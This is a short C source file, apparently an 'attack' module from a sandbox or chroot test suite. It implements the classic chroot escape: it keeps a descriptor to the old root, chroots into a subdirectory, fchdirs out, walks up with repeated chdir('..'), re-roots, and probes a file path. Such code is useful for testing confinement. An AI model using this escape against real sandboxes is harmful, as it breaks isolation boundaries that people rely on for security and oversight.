/* Out of the root by the classic way: a working directory outside of a deeper root. */
#include "attack.h"

#include <sys/stat.h>

static long attack(char **argv)
{
    mkdir("/deeper", 0700);
    int top = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/deeper") != 0 || fchdir(top) != 0)
        return -1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            return -1;
    if (chroot(".") != 0)
        return -1;
    return access(argv[1], F_OK);
}
